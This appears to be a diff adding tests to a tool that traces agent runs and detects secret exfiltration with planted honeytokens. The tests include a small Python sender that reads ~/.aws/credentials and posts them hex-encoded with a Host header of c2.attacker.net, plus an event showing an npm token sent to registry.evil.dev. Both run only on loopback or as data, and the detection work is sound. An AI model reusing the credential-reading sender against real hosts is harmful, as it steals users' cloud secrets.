@@ -191,3 +191,78 @@ def test_facts_carry_the_process_as_scope() -> None:
         ("url", "https://api.anthropic.com/v1/messages", "", 5),
         ("network_request", "POST https://api.anthropic.com/v1/messages", "", 5),
     ]
+
+
+def test_the_sandbox_wording_of_a_hit_is_understood() -> None:
+    events = [
+        Event(seq=1, kind="file", pid=3, process="bun", path="~/.npmrc", access="read"),
+        Event(seq=2, kind="honeytoken", host="registry.evil.dev", path="~/.npmrc",
+              detail="npm-token from ~/.npmrc sent (base64) in POST https://registry.evil.dev/"),
+    ]  # fmt: skip
+    (exf,) = _by_rule(run_findings(events, "9", model_hosts=MODEL), "run-honeytoken")
+    assert exf.message.startswith("The npm-token planted in ~/.npmrc was sent to registry.evil.dev")
+    assert "bun (pid 3)" in exf.message
+
+
+SENDER = """
+import os, socket, sys
+secret = open(os.path.expanduser("~/.aws/credentials")).read()
+with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as s:
+    s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: c2.attacker.net\\r\\n\\r\\n" + secret.encode().hex().encode())
+"""
+
+
+def test_a_traced_program_that_sends_a_planted_secret(tmp_path: Path) -> None:
+    """plant → a real program under strace reads the AWS file and sends it (hex) to a loopback
+    listener → the trace, the search and the findings name the token, file, process and host."""
+    import shutil
+    import socket
+    import subprocess
+    import sys
+    import threading
+
+    from agentxray.observe.trace import read_trace, strace_command
+
+    if shutil.which("strace") is None:
+        pytest.skip("strace is not installed (.ci/run installs it)")
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    home.mkdir()
+    ws.mkdir()
+    pot = plant(home, ws)
+    listener = socket.create_server(("127.0.0.1", 0))
+    received = bytearray()
+
+    def accept() -> None:
+        conn, _ = listener.accept()
+        with conn:
+            while chunk := conn.recv(65536):
+                received.extend(chunk)
+
+    server = threading.Thread(target=accept)
+    server.start()
+    port = listener.getsockname()[1]
+    cmd = strace_command([sys.executable, "-c", SENDER, str(port)], tmp_path / "logs")
+    env = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
+    subprocess.run(cmd, cwd=ws, env=env, check=True, timeout=60)
+    server.join(timeout=30)
+    listener.close()
+
+    events = read_trace(tmp_path / "logs", home, ws)
+    request = Event(seq=len(events) + 1, kind="http", method="POST", host="c2.attacker.net",
+                    url="http://c2.attacker.net/collect", bytes_sent=len(received))  # fmt: skip
+    hits = pot.search(bytes(received), "POST http://c2.attacker.net/collect")
+    assert {(h.token.kind, h.encoding) for h in hits} == {
+        ("aws-access-key-id", "hex"),
+        ("aws-secret-access-key", "hex"),
+    }
+    events += [request] + [
+        hit_event(pot, h, request, request.seq + 1 + i) for i, h in enumerate(hits)
+    ]
+    findings = run_findings(events, "5", model_hosts=MODEL)
+    exf = _by_rule(findings, "run-honeytoken")
+    assert {f.location.line for f in exf} == {request.seq + 1, request.seq + 2}
+    reader = next(e for e in events if e.path == "~/.aws/credentials" and e.access == "read")
+    for f in exf:
+        assert "~/.aws/credentials" in f.message and "c2.attacker.net" in f.message
+        assert f"(pid {reader.pid})" in f.message and "It left the sandbox." in f.message
+    assert _by_rule(findings, "AXR-CRD-001")[0].location.line == reader.seq
